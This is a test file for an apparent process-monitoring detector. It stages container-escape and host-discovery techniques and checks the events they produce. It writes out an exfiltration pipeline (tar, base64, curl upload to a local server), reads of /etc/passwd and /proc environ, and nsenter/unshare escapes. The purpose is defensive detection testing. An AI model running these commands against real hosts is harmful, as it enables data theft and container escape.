import { appendFileSync } from "node:fs";
import type { Attack } from "../harness/attack/attack.ts";
import { hashOf } from "../harness/attack/compare.ts";
import { describeAttacks } from "../harness/attack/describe.ts";
import { absent, Check, has, someNumber } from "../harness/attack/field.ts";
import { untilItRuns } from "../harness/attack/scene.ts";

/* In and around containers; what is gathered about a host, and carried out of it. */

/** In another mount namespace, whose last process may be gone before anybody can look, and below a root without passwd: the host's, or none. */
const hostsOrNone = new Check('"root" or absent', (value) => value === undefined || value === "root");
const namelessRoot = Object.fromEntries(
  ["user", "group", "process.user", "process.group", "process.real_user"].map((path) => [`${path}.name`, hostsOrNone]),
);

const attacks: readonly Attack[] = [
  {
    title: "a shell in namespaces of its own",
    rule: "unshare with a pid namespace, as a container's first process",
    needs: ["unshare"],
    run: async (scene) => {
      const shell = ["sh", "-c", "id; exit 0"];
      const args = ["unshare", "-mpf", "--mount-proc", ...shell];
      await scene.run("unshare", args.slice(1));
      return [
        { of: { "process.name": "unshare" }, fields: { "process.args": args } },
        {
          of: { "process.args": shell },
          fields: { "process.parent.name": "unshare", "process.parent.args": args, "process.pid": someNumber },
          context: { ...namelessRoot, "process.vpid": 1 },
        },
        {
          of: { "process.name": "id" },
          fields: { "process.parent.args": shell },
          context: { ...namelessRoot, "process.vpid": 2, "process.session_leader.name": "unshare" },
        },
      ];
    },
  },
  {
    title: "into the namespaces of another process",
    rule: "nsenter with a target",
    needs: ["nsenter", "unshare"],
    run: async (scene) => {
      await scene.shell(
        `unshare -m sleep 60 & ${untilItRuns("sleep")}; nsenter --target $! --mount sh -c 'id; exit 0'; kill $!; wait $!; exit 0`,
      );
      return [
        {
          of: { "process.name": "nsenter" },
          fields: { "process.args": has("nsenter", "--target", "--mount"), "process.args_count": 7, "user.id": "0" },
        },
        {
          of: { "process.args": ["sh", "-c", "id; exit 0"] },
          fields: { "process.name": /sh$/ },
          context: { ...namelessRoot, "process.previous.args": has("nsenter") },
        },
        {
          of: { "process.name": "sleep", "process.args": ["sleep", "60"] },
          fields: { "process.args_count": 2 },
          context: namelessRoot,
          end: { "process.exit_code": 143, "mayfly.exit.signal": "SIGTERM" },
        },
      ];
    },
  },
  {
    title: "a shell below another root",
    rule: "chroot, and paths that are those of the root below it",
    needs: ["chroot", "busybox"],
    run: async (scene) => {
      // Another file than the host's of the same path, so that a hash of that one would be seen.
      const copy = scene.copy("/bin/busybox", "root/bin/busybox");
      appendFileSync(copy, "another");
      const shell = ["/bin/busybox", "sh", "-c", "/bin/busybox id; exit 0"];
      await scene.run("chroot", ["./root", ...shell]);
      const image = { "process.executable": "/bin/busybox", "process.name": "busybox" };
      return [
        { of: { "process.name": "chroot" }, fields: { "process.args": ["chroot", "./root", ...shell] } },
        {
          of: { "process.args": shell },
          fields: { ...image, "process.working_directory": "/" },
          context: { ...namelessRoot, "process.hash.sha256": hashOf(copy), "mayfly.executable.package.name": absent },
        },
        {
          of: { "process.args": ["/bin/busybox", "id"] },
          fields: { ...image, "process.parent.args": shell, "process.parent.executable": "/bin/busybox" },
          context: { ...namelessRoot, "process.hash.sha256": hashOf(copy) },
        },
      ];
    },
  },
  {
    title: "the socket of a container engine",
    rule: "curl with a Unix socket",
    needs: ["curl"],
    run: async (scene) => {
      const socket = scene.path("docker.sock");
      await scene.serve("[]", socket);
      const args = ["curl", "-s", "--unix-socket", socket, "http://localhost/containers/json"];
      await scene.run("curl", args.slice(1));
      return [{ of: { "process.name": "curl" }, fields: { "process.args": args, "process.args_count": 5 } }];
    },
  },
  {
    title: "files packed, encoded and sent",
    rule: "tar, base64 and an upload by curl of one parent",
    needs: ["curl", "tar", "base64"],
    run: async (scene) => {
      const port = await scene.serve("thanks");
      scene.write("home/notes.txt", "nothing of worth\n");
      await scene.shell(`tar -czf - ./home | base64 -w0 | curl -s --data-binary @- http://127.0.0.1:${port}/up`);
      const parent = {
        "process.parent.args": /tar -czf - \.\/home \| base64 -w0 \| curl/,
        "process.parent.name": /sh$/,
      };
      return [
        { of: { "process.name": "tar" }, fields: { "process.args": ["tar", "-czf", "-", "./home"], ...parent } },
        { of: { "process.name": "gzip" }, fields: { "process.args": ["gzip"], "process.args_count": 1 } },
        { of: { "process.name": "base64" }, fields: { "process.args": ["base64", "-w0"], ...parent } },
        {
          of: { "process.name": "curl" },
          fields: { "process.args": has("--data-binary", "@-", `http://127.0.0.1:${port}/up`), ...parent },
          siblingOf: { "process.name": "tar" },
          end: { "process.exit_code": 0 },
        },
      ];
    },
  },
  {
    title: "questions about a host, one after the other",
    rule: "several discovery commands of one parent, a script in a folder of /tmp",
    run: async (scene) => {
      const script = scene.write("look.sh", "#!/bin/sh\nuname -a\nid -u\nhostname\ncat /etc/passwd\nexit 0\n");
      await scene.run(script, []);
      const parent = {
        "process.parent.name": /sh$/,
        "process.parent.args": ["/bin/sh", script],
        "process.parent.command_line": `/bin/sh ${script}`,
        "process.working_directory": scene.folder,
      };
      return [
        {
          of: { "process.args": ["/bin/sh", script] },
          fields: { "mayfly.script.path": script, "process.name": /sh$/ },
          context: { "mayfly.script.hash.sha256": hashOf(script), "process.session_leader.same_as_process": true },
        },
        { of: { "process.args": ["uname", "-a"] }, fields: { "process.name": "uname", ...parent } },
        { of: { "process.args": ["id", "-u"] }, fields: { "process.name": "id", ...parent } },
        { of: { "process.name": "hostname" }, fields: { "process.args_count": 1, ...parent } },
        { of: { "process.name": "cat" }, fields: { "process.args": ["cat", "/etc/passwd"], ...parent } },
      ];
    },
  },
  {
    title: "memory maps and the environment of other processes, read in /proc",
    rule: "a tool that reads maps or environ",
    run: async (scene) => {
      await scene.shell("cat /proc/$$/maps; grep -c . /proc/$$/environ");
      return [
        { of: { "process.args": /^\/proc\/\d+\/maps$/ }, fields: { "process.name": "cat", "process.args_count": 2 } },
        { of: { "process.args": /^\/proc\/\d+\/environ$/ }, fields: { "process.name": "grep" } },
      ];
    },
  },
];

describeAttacks("in and around containers, and out of the host", attacks);
